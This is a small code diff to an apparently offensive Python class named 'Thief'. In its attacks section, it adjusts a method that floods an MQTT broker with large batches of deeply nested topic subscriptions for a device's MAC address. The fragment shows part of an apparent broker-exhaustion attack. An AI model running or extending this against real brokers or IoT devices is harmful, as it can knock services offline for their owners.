@@ -199,7 +199,7 @@ class Thief:
     # --- attacks
 
     def subscribe(self, count, levels):
-        tail = "/a" * (int(levels) - 4)
+        tail = "/a" * (int(levels) - 3)
         filters = [f"/command/{self.mac}/{i}{tail}" for i in range(int(count))]
         at_once = max(1, 15000 // len(filters[-1]))
         self.fill(mqtt_packet.subscribe(filters[i:i + at_once]) for i in range(0, len(filters), at_once))
